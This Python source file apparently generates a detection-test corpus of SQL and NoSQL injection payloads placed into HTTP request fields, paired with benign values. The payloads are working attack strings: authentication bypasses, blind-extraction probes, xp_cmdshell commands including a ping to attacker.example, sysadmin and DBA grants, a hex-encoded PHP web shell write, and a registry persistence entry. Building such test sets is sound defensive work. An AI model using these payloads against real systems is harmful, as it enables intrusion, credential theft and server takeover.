# --- function-based-probing: substring / ascii / char / concat / length one character at a time ----------------
FUNC: list[Entry] = [
    # numeric id -> MySQL
    ("id", "1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64"),
    ("id", "1 and substr(user(),1,1)='r'"),
    ("id", "1 AND ORD(MID(database(),1,1))=97"),
    ("id", "1 and length(database())=8"),
    ("id", "1 AND LEFT(version(),1)='8'"),
    # numeric id -> MSSQL, Oracle, SQLite, PostgreSQL
    ("id", "1 AND UNICODE(SUBSTRING(DB_NAME(),1,1))>100"),
    ("id", "1 AND ASCII(SUBSTR((SELECT user FROM dual),1,1))>80"),
    ("id", "1 and hex(substr(sqlite_version(),1,1))='33'"),
    ("id", "1 AND SUBSTRING(SYSTEM_USER,1,2)='sa'"),
    ("id", "1 AND ascii(substr(current_setting('server_version'),1,1))=49"),
    # e-mail -> MySQL
    ("email", "x' and mid(user(),1,1)='r'#@example.com"),
    ("email", "x' and substring_index(user(),'@',1)='root'#@example.org"),
    # date -> MySQL
    ("date", "2024-01-01' AND CONCAT(database(),CHAR(58))<>''-- "),
    # sort column -> MySQL: which column the rows are ordered by answers the question
    ("sort", "(CASE WHEN (ASCII(SUBSTRING(current_user(),1,1))>100) THEN name ELSE email END)"),
    ("sort", "IF(ORD(MID((SELECT password FROM users LIMIT 1),2,1))>77,id,name)"),
    # language / currency -> MySQL
    ("lang", "en' AND STRCMP(SUBSTR(user(),1,1),'r')=0-- "),
    ("currency", "EUR' AND INSTR(user(),'root')>0-- "),
    ("currency", "USD' and locate('root',user())#"),
    # UUID -> PostgreSQL
    ("uuid", "8f14e45f-ceea-467f-a0b1-6c5d4e3f2a1b' AND SUBSTRING(current_setting('is_superuser'),1,1)='o'--"),
    ("uuid", "45c48cce-2e2d-4fbd-aa1c-2b3c4d5e6f7a' AND chr(65)||chr(66)=(SELECT 'AB')--"),
    # colour / postcode -> MySQL
    ("colour", "red' and conv(hex(substr(user(),1,1)),16,10)>90#"),
    ("postcode", "12345' AND ASCII(LOWER(SUBSTR(DATABASE(),2,1)))=112#"),
    # version -> MySQL
    ("version", "1.0' and concat_ws(0x3a,user(),database(),version()) like '%'#"),
    # User-Agent logged -> MySQL
    ("ua", "Mozilla/5.0' AND (SELECT CONCAT(CHAR(114),CHAR(111),CHAR(111),CHAR(116)))=SUBSTRING_INDEX(user(),"
           "'@',1)-- "),
    # hostname -> MSSQL
    ("host", "app.example.com' and len(db_name())>3--"),
    # page -> MySQL
    ("page", "1 and bit_length(user())>64"),
    # time zone -> Oracle
    ("tz", "UTC' AND LENGTH((SELECT banner FROM v$version WHERE ROWNUM=1))>10--"),
    # phone -> SQLite
    ("phone", "5550142' AND unicode(substr((SELECT password FROM users LIMIT 1),1,1))>80--"),
]

# --- sql-authentication-bypass: login forms and credential lookups ------------------------------------------------
AUTH: list[Entry] = [
    # username -> `SELECT * FROM users WHERE username='{v}' AND password='...'` (MySQL, PostgreSQL, MSSQL)
    ("user", "admin'--"),
    ("user", "admin' #"),
    ("user", "admin'/*"),
    ("user", "' or 1=1--"),
    ("user", "' OR '1'='1' --"),
    ("user", "admin' or '1'='1"),
    ("user", "') or ('1'='1"),
    ("user", "admin')-- "),
    ("user", "admin' or 1=1 limit 1-- "),
    ("user", "' or ''='"),
    ("user", '" or ""="'),
    ("user", 'admin"--'),
    ("user", "admin' or 'x'='x'#"),
    ("user", "' or true-- "),
    ("user", "' UNION SELECT 1,'admin','5f4dcc3b5aa765d61d8327deb882cf99',1-- "),
    ("user", "administrator' AND 1=1)-- -"),
    # password -> `... AND password='{v}'` (the hash is compared in SQL)
    ("pass", "' or '1'='1"),
    ("pass", "x' or 1=1#"),
    ("pass", "anything' OR 'a'='a"),
    ("pass", "') OR ('a'='a"),
    ("pass", "' or 1 -- -"),
    ("pass", "'='"),
    ("pass", "'-'"),
    ("pass", "1' or '1'='1'-- "),
    # e-mail as the login name -> MySQL `WHERE email='{v}' AND pw_hash=...`
    ("email", "admin@example.com' or '1'='1"),
    ("email", "' or 1=1 limit 1-- -@example.com"),
    ("email", "admin@example.com')-- "),
    # one-time code (digits, unquoted) -> `WHERE user_id=7 AND totp_code={v}`
    ("totp", "0 or 1=1"),
    ("totp", "123456 OR 2>1"),
]

# --- nosql-injection: MongoDB query operators and $where JavaScript --------------------------------------------------
NOSQL: list[Entry] = [
    # JSON body whose typed fields become operator objects -> MongoDB `users.find(body)` (Node.js / Express)
    ("mongo-doc", '{"username": {"$ne": null}, "password": {"$ne": null}}'),
    ("mongo-doc", '{"email": {"$gt": ""}, "password": {"$gt": ""}}'),
    ("mongo-doc", '{"email": {"$regex": "^adm"}, "password": {"$ne": "x"}}'),
    ("mongo-doc", '{"$where": "sleep(5000) || true"}'),
    ("mongo-doc", '{"email": "a@example.com", "$or": [{}, {"a": "a"}]}'),
    ("mongo-doc", '{"phone": {"$exists": true}, "is_admin": {"$eq": true}}'),
    ("mongo-doc", '{"$expr": {"$function": {"body": "function(){sleep(5000);return true}", "args": [],'
                  ' "lang": "js"}}}'),
    ("mongo-doc", '{"username": {"$regex": ".*"}, "password": {"$regex": ".*"}}'),
    ("mongo-doc", '{"email": {"$not": {"$eq": "nobody@example.com"}}}'),
    ("mongo-doc", '{"$where": "this.password.match(/^a/)"}'),
    ("mongo-doc", '{"uuid": {"$nin": []}, "token": {"$type": 2}}'),
    ("mongo-doc", '{"pipeline": [{"$lookup": {"from": "users", "localField": "owner", "foreignField": "_id",'
                  ' "as": "u"}}]}'),
    # bracketed query strings that qs / PHP turn into operator objects -> MongoDB
    ("mongo-kv", "email[$ne]=nobody@example.com"),
    ("mongo-kv", "username[$ne]=x&password[$ne]=x"),
    ("mongo-kv", "password[$regex]=^a"),
    ("mongo-kv", "id[$gt]=0"),
    ("mongo-kv", "phone[$exists]=true"),
    ("mongo-kv", "email[$in][]=admin@example.com&email[$in][]=root@example.com"),
    ("mongo-kv", "token[$regex]=.*&token[$options]=s"),
    ("mongo-kv", "date[$gte]=1970-01-01&date[$lte]=2999-12-31&is_admin=true"),
    ("mongo-kv", "user_id[$where]=sleep(5000)"),
    # a typed field concatenated into a $where string -> MongoDB `{$where: "this.email == '" + v + "'"}`
    ("email", "a@b.co' || '1'=='1"),
    ("email", "x@x.io'; sleep(5000); var y='"),
    ("email", "'; return true; var z='@example.com"),
    ("email", "a@b.c' && this.password.match(/.*/)//"),
    # numeric id in `{$where: "this.id == " + v}` -> MongoDB
    ("id", "1; return true"),
    ("id", "1 || 1==1"),
    ("id", "1; while(true){}"),
    # id typed as JSON text and JSON.parse'd by the handler -> MongoDB
    ("id", '{"$ne": -1}'),
]

# --- hex / char encoding: literals and CHAR() chains that avoid quotes ------------------------------------------------
HEX: list[Entry] = [
    # numeric id -> MySQL hex and binary literals
    ("id", "-1 union select 0x61646d696e,2"),
    ("id", "1 and user()=0x726f6f74406c6f63616c686f7374"),
    ("id", "1 and table_name=char(117,115,101,114,115)"),
    ("id", "-1 union select unhex('726f6f74'),2"),
    ("id", "1 and database()=x'617070'"),
    ("id", "1 and substr(user(),1,1)=0b01110010"),
    ("id", "-1 union select CONCAT(CHAR(0x61),CHAR(0x64),CHAR(0x6d)),2"),
    # numeric id -> MSSQL: a hex string executed
    ("id", "1; DECLARE @s varchar(99)=0x73656c65637420404076657273696f6e; EXEC(@s)--"),
    ("id", "1 AND 1=CONVERT(INT,CHAR(65)+CHAR(66)+@@version)"),
    # e-mail -> MySQL, comparing against the admin's address without a quote
    ("email", "x' or email=0x61646d696e406578616d706c652e636f6d#@x.io"),
    ("email", "x' or username=char(97,100,109,105,110)#@example.net"),
    # date -> PostgreSQL chr() chain and decode()
    ("date", "2024-01-01' OR current_user=chr(112)||chr(111)||chr(115)||chr(116)||chr(103)||chr(114)||"
             "chr(101)||chr(115)--"),
    ("date", "2024-01-01'; DO $$BEGIN EXECUTE convert_from(decode('U0VMRUNUIHBnX3NsZWVwKDUp','base64'),"
             "'UTF8'); END$$;--"),
    # language -> Oracle CHR() chain
    ("lang", "en' AND user=CHR(83)||CHR(89)||CHR(83)--"),
    # currency -> SQLite blob literal
    ("currency", "EUR' OR name=X'61646d696e'--"),
    # sort column -> MySQL hex string as the ordering column
    ("sort", "if(user()like 0x726f6f7425,id,name)"),
    # LIMIT -> MySQL 5 union reading a file whose path is a hex literal
    ("page", "1 union select load_file(0x2f6574632f706173737764),2"),
    # postcode -> MSSQL NCHAR chain
    ("postcode", "10001' AND SYSTEM_USER=NCHAR(115)+NCHAR(97)--"),
    # UUID -> PostgreSQL escape-string literal with hex bytes
    ("uuid", "0a1b2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d' OR current_user=E'\\x70\\x6f\\x73\\x74\\x67\\x72\\x65\\x73'--"),
    # hostname -> MySQL _binary introducer and CONVERT
    ("host", "a.example.com' union select _binary 0x726f6f74,2#"),
    ("host", "b.example.com' and user() like concat(char(114),0x25)#"),
    # version -> MySQL UNHEX(HEX()) round trip (collation bypass)
    ("version", "1.0' union select unhex(hex(user())),2#"),
    # file name -> MySQL hex-encoded web shell through DUMPFILE
    ("file", "a.jpg' union select 0x3c3f3d60245f4745545b305d603f3e into dumpfile '/var/www/html/c.php'#"),
    # colour -> MySQL CHAR() with a USING clause
    ("colour", "red' or name=char(0x61,0x64,0x6d,0x69,0x6e using utf8mb4)#"),
    # X-Forwarded-For -> MySQL
    ("ip", "10.1.2.3' or 0x31=0x31 or '"),
    # time zone -> MSSQL CAST of a hex varbinary
    ("tz", "UTC'; EXEC(CAST(0x53454c45435420404076657273696f6e AS varchar(99)));--"),
    # phone -> PostgreSQL '\x..'::bytea
    ("phone", "555' OR encode('\\x726f6f74'::bytea,'escape')=current_user--"),
    # search -> MSSQL char() quote, no literal quote
    ("search", "a%' or name like char(37)+char(97)+char(37)--"),
]

# --- stored-procedure / xp_cmdshell: procedures that reach the OS or the server's configuration -----------------
SPROC: list[Entry] = [
    # numeric id -> MSSQL
    ("id", "1; EXEC xp_cmdshell 'whoami'--"),
    ("id", "1; EXEC master..xp_cmdshell 'ping -n 2 attacker.example'--"),
    ("id", "1; EXEC sp_configure 'show advanced options',1; RECONFIGURE;--"),
    ("id", "1; EXEC sp_configure 'xp_cmdshell',1;RECONFIGURE--"),
    ("id", "1; EXEC sp_addlogin 'eve','P@ssw0rd1'--"),
    ("id", "1; EXEC sp_addsrvrolemember 'eve','sysadmin'--"),
    ("id", "1; DECLARE @o INT; EXEC sp_OACreate 'WScript.Shell',@o OUT; EXEC sp_OAMethod @o,'Run',NULL,"
           "'cmd /c whoami > c:\\inetpub\\wwwroot\\w.txt'--"),
    ("id", "1; EXEC sp_executesql N'SELECT @@version'--"),
    # e-mail -> MSSQL
    ("email", "x'; EXEC master.dbo.xp_regread 'HKEY_LOCAL_MACHINE','SYSTEM\\CurrentControlSet\\Services\\"
              "lanmanserver\\parameters','nullsessionshares'--@example.com"),
    ("email", "y'; EXEC xp_cmdshell 'net user eve P@ss1 /add'--@example.com"),
    # date -> MSSQL
    ("date", "2024-01-01'; EXEC xp_servicecontrol 'start','schedule';--"),
    ("date", "2024-01-01'; EXEC sp_password NULL,'x','sa';--"),
    # sort column -> MSSQL
    ("sort", "name; EXEC('xp_cmdshell ''dir c:\\''')--"),
    # hostname -> MSSQL linked servers
    ("host", "db.example.com'; EXEC sp_linkedservers;--"),
    ("host", "db2.example.com'; EXEC ('xp_cmdshell ''whoami''') AT [LINKED01];--"),
    # language -> MSSQL
    ("lang", "en'; EXEC master..xp_availablemedia;--"),
    # currency -> MSSQL agent job that runs a shell step
    ("currency", "EUR'; EXEC msdb..sp_add_job @job_name='j'; EXEC msdb..sp_add_jobstep @job_name='j',"
                 "@step_name='s',@subsystem='CMDEXEC',@command='whoami'; EXEC msdb..sp_start_job 'j';--"),
    # postcode -> PostgreSQL: libc system() as a C function
    ("postcode", "10001'; CREATE OR REPLACE FUNCTION sys(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6',"
                 "'system' LANGUAGE C STRICT;--"),
    # UUID -> PostgreSQL untrusted language
    ("uuid", "4f3e2d1c-0b9a-4877-8665-544332211000'; CREATE FUNCTION x() RETURNS text AS $$import os;"
             "return os.popen('id').read()$$ LANGUAGE plpython3u;--"),
    # page -> MySQL UDF
    ("page", "1; CREATE FUNCTION sys_eval RETURNS STRING SONAME 'lib_mysqludf_sys.so';--"),
    ("qty", "1 and sys_exec('id')"),
    # e-mail -> Oracle Java stored procedure
    ("email", "z'||DBMS_JAVA.RUNJAVA('oracle/aurora/util/Wrapper /bin/sh -c id')||'@example.com"),
    # version -> Oracle: autonomous transaction that grants DBA
    ("version", "1.0' AND DBMS_XMLQUERY.NEWCONTEXT('declare PRAGMA AUTONOMOUS_TRANSACTION; begin execute "
                "immediate ''grant dba to public''; commit; end;') IS NOT NULL--"),
    # time zone -> Oracle scheduler job running an executable
    ("tz", "UTC'; BEGIN DBMS_SCHEDULER.CREATE_JOB(job_name=>'J',job_type=>'EXECUTABLE',job_action=>'/bin/sh',"
           "number_of_arguments=>0,enabled=>TRUE); END;--"),
    # colour -> MSSQL
    ("colour", "red'; EXEC sp_makewebtask 'c:\\inetpub\\wwwroot\\u.html','SELECT * FROM users';--"),
    # phone -> MSSQL
    ("phone", "555'; EXEC master..xp_loginconfig;--"),
    # file name -> MSSQL writes a file through xp_cmdshell echo
    ("file", "a.txt'; EXEC xp_cmdshell 'echo ^<%@ Page %^> > c:\\inetpub\\wwwroot\\s.aspx';--"),
    # country -> MSSQL registry write
    ("country", "IE'; EXEC master..xp_regwrite 'HKEY_LOCAL_MACHINE','SOFTWARE\\Microsoft\\Windows\\"
                "CurrentVersion\\Run','x','REG_SZ','c:\\t\\x.exe';--"),
]

# --- having / group-by / order-by probing: column counting and ORDER BY expressions -------------------------------
ORDER: list[Entry] = [
    # numeric id -> column count by ORDER BY n (MySQL, PostgreSQL, MSSQL)
    ("id", "1 ORDER BY 1--"),
    ("id", "1 ORDER BY 25--"),
    ("id", "1 GROUP BY 1,2,3 HAVING 1=1--"),
    ("id", "1 group by concat(version(),floor(rand(0)*2)) having min(0)"),
    # e-mail / date -> quoted context
    ("email", "x' ORDER BY 3-- -@example.com"),
    ("date", "2024-01-01' HAVING 1=1--"),
    ("date", "2024-01-01' GROUP BY users.id HAVING 1=1--"),
    ("date", "2024-01-02' GROUP BY users.id,users.email HAVING 1=1--"),
    # sort key -> MySQL `ORDER BY {v}`: conditional ordering as a boolean oracle
    ("sort", "IF(1=1,name,email)"),
    ("sort", "(CASE WHEN 1=1 THEN id ELSE price END)"),
    ("sort", "name,IF((SELECT 1)=1,1,(SELECT 1 UNION SELECT 2))"),
    ("sort", "(SELECT 1 FROM DUAL WHERE 1=1)"),
    ("sort", "rand(1=1)"),
    ("sort", "id,(select case when (1=1) then 1 else 1/(select 0) end)"),
    ("sort", "(select 1 from users where username='admin' and password like 'a%')"),
    ("sort", "id desc,field(id,(select id from users where is_admin=1))"),
    # sort direction -> MySQL `ORDER BY name {v}`
    ("dir", "asc,(select 1)"),
    ("dir", "desc,IF(1=2,1,(select 1 union select 2))"),
    ("dir", "ASC,(SELECT CASE WHEN (1=1) THEN 1 ELSE 1*(SELECT 1 UNION SELECT 2) END)"),
    ("dir", "desc limit 1 procedure analyse()"),
    # group-by column -> MySQL / PostgreSQL `GROUP BY {v}`
    ("group", "team_id having 1=1"),
    ("group", "status with rollup having 1=1"),
    ("group", "team_id having count(*)>0 union select 1,2"),
    ("group", "1 having (select count(*) from users)>0"),
    # page -> PostgreSQL column count
    ("page", "1 order by 100"),
    # language / currency -> quoted ORDER BY probes
    ("lang", "en' ORDER BY 4#"),
    ("currency", "USD' GROUP BY 1,2,3,4,5-- "),
    # version -> SQLite
    ("version", "1.0' ORDER BY 6--"),
]

# --- like / between / in operators: tautologies and probes built from set and pattern operators --------------------
LIKE: list[Entry] = [
    # numeric id -> MySQL / PostgreSQL
    ("id", "1 OR 1 IN (1)"),
    ("id", "1 AND user() LIKE 'root%'"),
    ("id", "1 AND database() BETWEEN 'a' AND 'z'"),
    ("id", "0 or 1 between 0 and 2"),
    ("id", "1 and (select password from users limit 1) like 'a%'"),
    ("id", "1 AND ascii(substring(user(),1,1)) NOT BETWEEN 0 AND 113"),
    # search box inside LIKE '%{v}%' -> MySQL
    ("search", "%' or name like '%"),
    ("search", "x%' OR 1 LIKE 1-- "),
    ("search", "%' AND password LIKE 'a%'-- "),
    ("search", "_%' or email like '%@%"),
    # e-mail -> MySQL
    ("email", "x' or email like '%admin%'#@example.com"),
    ("email", "a' or 1 in (1)#@example.org"),
    # date -> PostgreSQL
    ("date", "2024-01-01' or created_at between '1970-01-01' and '2999-12-31'-- "),
    # price -> MySQL
    ("price", "0 or price between 0 and 99999"),
    ("price", "1 or 1 in (select 1)"),
    # UUID -> PostgreSQL
    ("uuid", "11111111-2222-4333-8444-555555555555' or id in (select id from users)--"),
    # language -> MySQL
    ("lang", "en' or locale not in ('xx')-- "),
    ("lang", "de' or 'a' like 'a"),
    # currency -> MySQL pattern operators
    ("currency", "EUR' OR 'x' RLIKE 'x'-- "),
    ("currency", "USD' and user() regexp '^r'-- "),
    ("currency", "GBP' or 1 sounds like 1#"),
    ("currency", "JPY' AND database() NOT LIKE 'x'#"),
    # time zone / hostname -> PostgreSQL SIMILAR TO, ~ and ILIKE
    ("tz", "UTC' or current_user similar to '%'--"),
    ("host", "a.example.com' or current_user ~ '^p'--"),
    ("host", "c.example.com' OR email ILIKE '%'--"),
    # file name -> SQLite GLOB
    ("file", "x.png' or name glob '*'--"),
    # postcode -> MSSQL
    ("postcode", "1000%' OR 'a' LIKE 'a"),
    # status -> MySQL IN list that covers every value
    ("status", "active' or status in ('active','banned','deleted','pending')-- "),
]

# --- JSON keys and column lists: a settings key or a `fields=` list copied into the statement -----------------------
# key of the settings object -> MySQL `JSON_EXTRACT(settings,'$.{k}')`, PostgreSQL `settings->>'{k}'`,
# a column list -> `SELECT {fields} FROM users`
KEYS: list[tuple[str, Entry]] = [
    ("libinjection-sqli", ("key", "units'))or 1#")),
    ("sql-tautology-boolean", ("key", "alerts') or 1=1 or JSON_EXTRACT(settings,'$.x")),
    ("sql-comment-sequence", ("key", "units'-- ")),
    ("union-select", ("key", "email FROM users UNION SELECT passwd FROM pg_shadow--")),
    ("time-based-blind", ("key", "units' || pg_sleep(5) || '")),
    ("error-based", ("key", "units') AND extractvalue(1,concat(0x7e,version()))-- ")),
    ("information-schema-probing", ("key", "name,(select string_agg(table_name,',') from "
                                           "information_schema.tables)")),
    ("mysql-comment-obfuscation", ("key", "name/*!,password*/")),
    ("function-based-probing", ("key", "name,concat(email,0x3a,password)")),
    ("hex-char-encoding", ("key", "name,unhex(hex(password))")),
    ("having-group-order-by-probing", ("key", "name FROM users GROUP BY name HAVING 1=1--")),
    ("like-between-in-operators", ("key", "alerts') or email like ('%")),
]

FAMILIES: list[tuple[str, list[Entry]]] = [
    ("libinjection-sqli", LIBINJ),
    ("sql-tautology-boolean", TAUT),
    ("sql-comment-sequence", COMMENT),
    ("union-select", UNION),
    ("stacked-queries", STACK),
    ("time-based-blind", TIME),
    ("error-based", ERROR),
    ("out-of-band", OOB),
    ("information-schema-probing", CATALOG),
    ("mysql-comment-obfuscation", MYCOMMENT),
    ("function-based-probing", FUNC),
    ("sql-authentication-bypass", AUTH),
    ("nosql-injection", NOSQL),
    ("hex-char-encoding", HEX),
    ("stored-procedure-xp-cmdshell", SPROC),
    ("having-group-order-by-probing", ORDER),
    ("like-between-in-operators", LIKE),
]

# ----------------------------------------------------------------------------------------------------------------
# Placements. Each field type: (real parameter names, rs parameter names, real places, rs places).
GEN_REAL = ["query", "form", "json", "xml", "multipart-field", "cookie"]
GEN_RS = ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-cookie"]
NUM_REAL = ["query", "form", "json", "xml"]
NUM_RS = ["rs-query", "rs-form", "rs-json", "rs-xml"]
Field = tuple[list[str], list[str], list[str], list[str]]
FIELDS: dict[str, Field] = {
    "email": (["email", "contact_email", "billing_email"], ["email", "mail", "user_email"], GEN_REAL, GEN_RS),
    "phone": (["phone", "mobile"], ["phone", "tel", "phone_number"], GEN_REAL, GEN_RS),
    "date": (["birth_date", "since", "from_date", "date"], ["date", "from", "start_date"], GEN_REAL, GEN_RS),
    "time": (["alert_time", "time"], ["time", "at"], GEN_REAL, GEN_RS),
    "price": (["max_price", "price", "amount"], ["price", "amount", "min_price"], NUM_REAL, NUM_RS),
    "qty": (["qty", "quantity"], ["qty", "quantity", "count"], NUM_REAL, NUM_RS),
    "id": (["user_id", "id", "team_id"], ["id", "item_id", "pid"],
           ["path", "query", "form", "json", "xml", "cookie"], GEN_RS),
    "uuid": (["request_id", "uuid", "client_id"], ["uuid", "guid", "token_id"],
             GEN_REAL + ["header:X-Request-Id"], GEN_RS + ["rs-header:X-Request-Id"]),
    "sort": (["sort", "order_by"], ["sort", "orderby", "sortcol"], ["query", "form", "json", "cookie"],
             ["rs-query", "rs-form", "rs-json", "rs-cookie"]),
    "dir": (["order", "dir"], ["order", "sort_dir"], ["query", "form", "json"], ["rs-query", "rs-form", "rs-json"]),
    "group": (["group_by"], ["group", "groupby"], ["query", "form", "json"], ["rs-query", "rs-form", "rs-json"]),
    "page": (["limit", "page", "offset", "per_page"], ["page", "limit", "start", "pagesize"],
             ["query", "form", "json"], ["rs-query", "rs-form", "rs-json"]),
    "lang": (["locale", "lang"], ["lang", "language"], GEN_REAL + ["header:Accept-Language"],
             GEN_RS + ["rs-header:Accept-Language"]),
    "currency": (["currency"], ["currency", "cur"], GEN_REAL, GEN_RS),
    "tz": (["timezone", "tz"], ["tz", "timezone"], GEN_REAL, GEN_RS),
    "country": (["country", "country_code"], ["country", "cc"], GEN_REAL, GEN_RS),
    "file": (["filename", "attachment_name"], ["file", "filename"], ["multipart-filename", "json", "form", "query"],
             ["rs-multipart-filename", "rs-query", "rs-form", "rs-json"]),
    "postcode": (["postcode", "zip"], ["zip", "postal_code"], GEN_REAL, GEN_RS),
    "colour": (["theme_color", "color"], ["color", "colour", "bg"], GEN_REAL, GEN_RS),
    "key": (["fields", "filter", "columns"], ["fields", "filter", "cols"], ["json-key", "param-name", "query", "form"],
            ["rs-json-key", "rs-param-name", "rs-query", "rs-form"]),
    "version": (["app_version", "version"], ["version", "v"], ["header:X-Api-Version", "query", "json", "form"],
                ["rs-header:X-Api-Version", "rs-query", "rs-json", "rs-form"]),
    "ua": (["user_agent"], ["user_agent"], ["header:User-Agent"], ["rs-header:User-Agent"]),
    "host": (["host", "domain", "hostname"], ["host", "domain"],
             ["query", "form", "json", "header:X-Forwarded-Host", "xml"],
             ["rs-query", "rs-form", "rs-json", "rs-header:X-Forwarded-Host", "rs-xml"]),
    "url": (["website", "callback_url", "redirect_uri", "url"], ["url", "return_url", "redirect"],
            ["query", "form", "json", "header:Referer", "xml"],
            ["rs-query", "rs-form", "rs-json", "rs-header:Referer", "rs-xml"]),
    "ip": (["client_ip", "ip"], ["ip", "remote_addr"], ["header:X-Forwarded-For", "query", "json"],
           ["rs-header:X-Forwarded-For", "rs-query", "rs-json", "rs-form"]),
    "user": (["username"], ["username", "user", "login"], ["login"], ["rs-form", "rs-json", "rs-query"]),
    "pass": (["password"], ["password", "pass", "pwd"], ["login"], ["rs-form", "rs-json"]),
    "totp": (["totp"], ["otp", "code", "pin"], ["login"], ["rs-form", "rs-json", "rs-query"]),
    "search": (["q", "search"], ["q", "search", "s", "keyword"], GEN_REAL, GEN_RS),
    "status": (["status", "state"], ["status"], GEN_REAL, GEN_RS),
    "mongo-doc": ([""], [""], ["json-body"], ["rs-json-body"]),
    "mongo-kv": ([""], [""], ["raw-query", "raw-form"], ["rs-raw-query", "rs-raw-body"]),
}
LOGIN_COOKIE = "__Host-jeeves_admin_login=t0k3n"
UPLOAD_BODY = "id,name,email\n1,Ann,ann@example.org\n"


class _Set(BlindSet):
    prefix = NAME
    kv_safe = "=&[]._-:/'*$!(),;{}~@^"
    upload = UPLOAD_BODY
    file_type = "text/csv"

    def _p_query(self, p: Put) -> Record:
        tail = "&limit=20" if p.name == "page" else self.tail   # no second page parameter
        return _get("/api/users?" + p.name + "=" + enc(p.v) + tail)

    def _p_json(self, p: Put) -> Record:
        return _json("/api/users", {"name": "Ann Lee", p.name: p.v})

    def _p_json_key(self, p: Put) -> Record:
        return _json("/api/users", {"name": "Ann Lee", p.name: {p.v: "1"}})

    def _p_param_name(self, p: Put) -> Record:
        return _get("/api/users?" + p.name + "%5B" + enc(p.v) + "%5D=1" + self.tail)

    def _p_login(self, p: Put) -> Record:
        fields = {"csrf_token": "t0k3n", "username": "admin", "password": "hunter2-Autumn", "totp": "",
                  "next": "/admin/"}
        fields[p.name] = p.v
        return request("POST", "/admin/login", urllib.parse.urlencode(list(fields.items())), FORM,
                       Cookie=LOGIN_COOKIE)

    def _p_raw_query(self, p: Put) -> Record:
        return _get("/api/users?" + self._raw(p) + self.tail)

    def _p_raw_form(self, p: Put) -> Record:
        return self._p_form(p._replace(raw=True))

    def _p_rs_json_key(self, p: Put) -> Record:
        return request("POST", p.path, json.dumps({p.name: {p.v: 1}}), "application/json")

    def _p_rs_raw_query(self, p: Put) -> Record:
        return request("GET", p.path + "?" + self._raw(p))

    def _p_rs_param_name(self, p: Put) -> Record:
        return request("GET", p.path + "?" + p.name + "%5B" + enc(p.v) + "%5D=1")


SET = _Set()


class _Rotation:
    """Per field type, the next real place, rs place, names and rs path in turn."""

    def __init__(self) -> None:
        self.seen: dict[str, int] = {}

    def next(self, field: str, v: str) -> tuple[str, str, str, str, str]:
        names, rs_names, real_places, rs_places = FIELDS[field]
        k = self.seen.get(field, 0)
        self.seen[field] = k + 1
        real = real_places[k % len(real_places)]
        rs = rs_places[(k + k // len(rs_places)) % len(rs_places)]
        if not SET.fits(real, v):
            real = "json" if field not in ("user", "pass", "totp") else "login"
        if not SET.fits(rs, v):
            rs = "rs-json"
        name, rs_name = names[k % len(names)] or "q", rs_names[(k + 1) % len(rs_names)] or "q"
        if field == "ua":
            name, rs_name = "user_agent", "user_agent"
        return real, rs, name, rs_name, RS_PATHS[k % len(RS_PATHS)]


def _all_entries() -> Iterator[tuple[str, Entry]]:
    for sub, entries in FAMILIES:
        for entry in entries:
            yield sub, entry
        for key_sub, entry in KEYS:
            if key_sub == sub:
                yield sub, entry


def attacks() -> Iterator[dict[str, Any]]:
    rot = _Rotation()
    n = 0
    for sub, (field, payload) in _all_entries():
        real, rs, name, rs_name, rs_path = rot.next(field, payload)
        for place, rec in ((real, SET.real(real, name, payload)), (rs, SET.rs(rs, rs_path, rs_name, payload))):
            n += 1
            yield SET.record(rec, n, "sqli", sub, place, payload)


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same typed fields with real values, the same words typed innocently (Slack chat and bios, searches,
# admin notes, links, profiles, uploads, ordinary headers)
TYPED: list[Entry] = [
    # e-mail addresses with plus signs, dots, apostrophes, hyphens
    ("email", "sean.o'brien@example.ie"), ("email", "anna+newsletter@example.com"),
    ("email", "first.last@sub.example.co.uk"), ("email", "m.d'angelo@example.it"),
    ("email", "user_name-99@example.org"), ("email", "Jose.Nunez@example.es"),
    ("email", "o'connor+billing@example.com"), ("email", "support@xn--mnchen-3ya.de"),
    # phone numbers
    ("phone", "+1 (555) 010-0199"), ("phone", "+44 20 7946 0958"), ("phone", "0049 30 1234567"),
    ("phone", "555-0142 ext. 12"), ("phone", "+33 1 23 45 67 89"),
    # dates and times in many formats
    ("date", "2024-05-01"), ("date", "01/05/2024"), ("date", "May 1, 2024"), ("date", "2024-05-01T09:30:00Z"),
    ("date", "2024-05-01T09:30:00+02:00"), ("date", "1 May 2024"), ("date", "20240501"), ("date", "2024-W18"),
    ("date", "Thu, 02 May 2024 10:00:00 GMT"), ("date", "31.12.2023"),
    ("time", "07:30"), ("time", "7:30 AM"), ("time", "19:45:00"), ("time", "08:00+01:00"),
    # prices and quantities
    ("price", "$1,299.00"), ("price", "1.299,00 €"), ("price", "£45"), ("price", "19.99"), ("price", "-10.00"),
    ("price", "€ 12,50"), ("price", "¥3000"), ("qty", "12"), ("qty", "2.5"), ("qty", "3 pcs"),
    # ids and UUIDs
    ("id", "42"), ("id", "1001"), ("id", "000123"),
    ("uuid", "8f14e45f-ceea-467a-9575-6c5a4d2b9f4e"), ("uuid", "550e8400-e29b-41d4-a716-446655440000"),
    ("uuid", "{3F2504E0-4F89-11D3-9A0C-0305E82C3301}"),
    # sort keys, directions, group keys, pages
    ("sort", "-created_at"), ("sort", "name"), ("sort", "updated_at:desc"), ("sort", "price,-rating"),
    ("sort", "last_name,first_name"), ("sort", "-score"), ("dir", "asc"), ("dir", "DESC"),
    ("group", "team_id"), ("group", "status"), ("page", "2"), ("page", "50"), ("page", "100"),
    # language, currency, time zone and country codes
    ("lang", "en-GB"), ("lang", "pt-BR"), ("lang", "zh-Hant-TW"), ("lang", "de"), ("lang", "en-GB,en;q=0.9"),
    ("currency", "EUR"), ("currency", "usd"), ("currency", "GBP"), ("currency", "CHF"),
    ("tz", "Europe/London"), ("tz", "America/Los_Angeles"), ("tz", "UTC+05:30"), ("tz", "Asia/Kolkata"),
    ("country", "GB"), ("country", "us"), ("country", "DE"),
    # file names with spaces, brackets and accents
    ("file", "O'Brien CV (final).pdf"), ("file", "Q1 report [draft] v2.xlsx"),
    ("file", "café menu – été 2024.pdf"), ("file", "invoice #1042.pdf"),
    # postcodes
    ("postcode", "SW1A 1AA"), ("postcode", "10115"), ("postcode", "90210-1234"), ("postcode", "H3Z 2Y7"),
    ("postcode", "EC1A 1BB"),
    # colours
